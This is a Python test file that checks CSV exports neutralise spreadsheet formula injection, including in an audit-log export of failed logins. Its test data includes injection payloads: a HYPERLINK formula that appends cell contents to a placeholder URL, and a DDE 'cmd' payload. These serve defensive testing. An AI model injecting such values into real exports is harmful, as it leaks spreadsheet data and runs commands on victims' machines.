"""Cells a spreadsheet would run as a formula are written as text, in every CSV the platform writes."""

import csv
import io

import pytest
from django.test import Client

from core.csv import SafeDictWriter, SafeWriter, safe_cell
from core.models import Job, Status
from core.services import job_run

FORMULAS = ['=HYPERLINK("http://x"&B2,"y")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_string_is_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["plain text", "", "1=1", "a-b", 5, -5, -2.5, None, True])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_negative_number_stays_a_number_but_a_negative_looking_string_is_text():
    buffer = io.StringIO()
    SafeWriter(buffer).writerow([-5, -0.25, "-5"])
    assert buffer.getvalue().strip() == "-5,-0.25,'-5"


def test_dict_writer_escapes_values_and_header_names():
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=["=name", "n"])
    writer.writeheader()
    writer.writerows([{"=name": "@SUM(1)", "n": -1}])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=name", "n"], ["'@SUM(1)", "-1"]]


@pytest.mark.django_db
def test_a_failed_login_with_a_formula_username_is_exported_as_text(
    researcher, django_capture_on_commit_callbacks
):
    username = '=HYPERLINK("http://x"&B2,"y")'
    Client().post("/accounts/login/", {"username": username, "password": "wrong"})
    client = Client()
    client.force_login(researcher)
    with django_capture_on_commit_callbacks(execute=False):
        client.post("/audit/", {"action": "auth.login_failed"})
    job = Job.objects.get(kind="audit_export")
    job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == Status.SUCCEEDED, job.error
    body = b"".join(client.get(f"/jobs/{job.pk}/download/").streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [row["actor"] for row in rows] == ["'" + username]
